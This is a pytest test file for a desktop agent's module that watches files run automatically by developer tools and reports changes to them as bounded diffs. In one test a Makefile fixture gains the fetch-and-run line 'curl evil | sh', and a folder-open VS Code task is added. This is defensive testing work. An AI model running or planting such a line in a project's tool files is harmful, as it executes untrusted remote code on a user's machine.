"""Files that a user's own tools run: what has changed in them is told as a diff, bounded, and cut only where it says so."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from desktop_agent.extras.project.tools._tool_files import MOST_FILES, MOST_SHOWN, ToolFiles, is_tool_file

pytestmark = pytest.mark.linux("sandboxes are for Linux alone")


@pytest.mark.parametrize(
    "name",
    [
        ".envrc", "sub/.envrc", ".vscode/tasks.json", ".vscode/settings.json", "a/.idea/runConfigurations/x.xml", "Makefile",
        "deep/in/makefile", "package.json", "conftest.py", "tests/conftest.py", "pyproject.toml", "setup.py", ".pre-commit-config.yaml",
        "x.code-workspace", ".devcontainer/devcontainer.json", "tox.ini", "noxfile.py", "justfile", ".github/workflows/ci.yml",
        ".husky/pre-commit", "Gemfile", "build.rs", "build.gradle.kts", "gradle/wrapper/gradle-wrapper.properties", "CMakeLists.txt",
        "CMAKELISTS.TXT", ".gitattributes", ".gitmodules", "sitecustomize.py", "evil.pth", ".cargo/config.toml", "vite.config.ts",
        ".mise.toml", "flake.nix", ".dir-locals.el", ".mcp.json", "Dockerfile", "compose.yaml",
    ],
)  # fmt: skip
def test_what_tools_run_is_known(name: str) -> None:
    assert is_tool_file(name)


@pytest.mark.parametrize(
    "name", ["a.py", "README.md", "src/main.rs", "notes.txt", "package.json.md", "vscode/x", "data.csv"]
)
def test_what_they_do_not_run_is_not(name: str) -> None:
    assert not is_tool_file(name)


def test_each_change_is_a_diff(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text("all:\n\techo one\n")
    (tmp_path / ".envrc").write_text("export A=1\n")
    (tmp_path / "a.py").write_text("1\n")
    files = ToolFiles(tmp_path)
    (tmp_path / "Makefile").write_text("all:\n\techo one\n\tcurl evil | sh\n")
    (tmp_path / ".vscode").mkdir()
    (tmp_path / ".vscode" / "tasks.json").write_text('{"runOn": "folderOpen"}\n')
    (tmp_path / ".envrc").unlink()
    (tmp_path / "a.py").write_text("2\n")
    (tmp_path / "sub").symlink_to("/")
    (tmp_path / "conftest.py").symlink_to("a.py")
    told = files.changes()
    assert told[0].startswith("Files that your own tools run") and len(told) == 5
    shown = "\n".join(told)
    for line in (
        "    +\tcurl evil | sh",
        '    +{"runOn": "folderOpen"}',
        "    -export A=1",
        "    +a link to a.py",
    ):
        assert line in shown
    assert "Changed:\n\n    Makefile\n" in shown and "Removed:\n\n    .envrc\n" in shown
    assert "New:\n\n    .vscode/tasks.json\n" in shown
    assert files.changes() == ()


def test_what_is_cut_says_so(tmp_path: Path) -> None:
    files = ToolFiles(tmp_path)
    (tmp_path / "Makefile").write_text("".join(f"line {each}\n" for each in range(1_000)))
    (tmp_path / "setup.py").write_text("x" * 1_000_000)
    (tmp_path / "tox.ini").write_text("y" * 10_000)
    (tmp_path / "justfile").write_bytes(b"\0binary")
    for each in range(MOST_FILES + 5):
        (tmp_path / f"{each}").mkdir()
        (tmp_path / f"{each}" / "conftest.py").write_text("pass\n")
    told = files.changes()
    shown = "\n".join(told)
    assert len(told) == MOST_FILES + 2 and all(len(each) < MOST_SHOWN + 500 for each in told)
    assert "9 more such files were changed" in told[-1]
    (tmp_path / "Makefile").write_text("")
    assert any("cut: " in each for each in files.changes())
    assert shown


def test_a_project_deeper_than_calls_go_is_looked_through(tmp_path: Path) -> None:
    files, at = ToolFiles(tmp_path), tmp_path
    for _ in range(1_500):
        at /= "d"
        at.mkdir()
    (at / "conftest.py").write_text("evil\n")
    told = files.changes()
    subprocess.run(["rm", "-rf", str(tmp_path / "d")], check=True)  # pytest could not
    assert "+evil" in "\n".join(told)
